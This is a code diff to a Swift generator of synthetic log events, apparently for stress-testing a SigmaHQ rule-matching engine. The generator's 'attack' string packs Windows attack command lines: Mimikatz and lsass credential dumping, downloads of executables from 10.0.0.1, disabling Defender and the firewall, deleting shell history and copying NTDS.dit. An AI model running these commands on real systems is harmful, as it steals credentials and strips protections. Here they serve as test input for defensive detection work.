@@ -29,6 +29,8 @@ enum GeneratedEvents: String, CaseIterable {
   case long = "worst_32KiB"
   /// Each event hits twenty rules of SigmaHQ and more; its values repeat, as those of the ordinary lane.
   case hits = "worst_20_hits"
+  /// The same with command lines that never repeat: two worst cases at once.
+  case newHits = "worst_20_new_hits"
   /// Values of one length that differ in the middle only: what a careless hash takes for one.
   case alike = "worst_alike"
   /// Values made of the literals that most rules know.
@@ -65,7 +67,10 @@ enum GeneratedEvents: String, CaseIterable {
     + "sekurlsa::logonpasswords lsadump::sam privilege::debug; Invoke-Mimikatz; procdump -ma lsass.exe -accepteula; "
     + "[Convert]::FromBase64String('SQBFAFgA'); Invoke-WebRequest http://10.0.0.1/b.exe -OutFile C:\\\\Users\\\\Public\\\\b.exe; "
     + "bcdedit /set {default} recoveryenabled no; Set-MpPreference -DisableRealtimeMonitoring $true; "
-    + "netsh advfirewall set allprofiles state off; Get-ADUser -Filter *; Start-BitsTransfer http://10.0.0.1/c.exe"
+    + "netsh advfirewall set allprofiles state off; Get-ADUser -Filter *; Start-BitsTransfer http://10.0.0.1/c.exe; "
+    + "Disable-WindowsOptionalFeature -Online -FeatureName Windows-Defender; Remove-Item ConsoleHost_history.txt; "
+    + "cmd.exe /c echo a > \\\\\\\\.\\\\pipe\\\\b; sc config; ForEach-Object {[char]; .Replace('a','b'); Get-Process lsass; "
+    + "rundll32.exe keymgr.dll,KRShowKeyMgr; copy lsass.dmp C:\\\\Windows\\\\NTDS.dit"
 
   /// How many events a lane has: about 60 MB in any case.
   private var count: Int {
@@ -104,6 +109,7 @@ enum GeneratedEvents: String, CaseIterable {
     case .unique: return "\(line) --run \(random.hexadecimal(24))"
     case .long: return line + " " + random.hexadecimal(32_000)
     case .hits: return GeneratedEvents.attack + " \(number % 8)"
+    case .newHits: return GeneratedEvents.attack + " \(number)"
     case .alike: return "C:\\\\tools\\\\collector.exe " + random.hexadecimal(24) + " --output C:\\\\data"
     case .literals:
       return (0..<160).map { _ in GeneratedEvents.common.randomElement(using: &random)! }.joined()
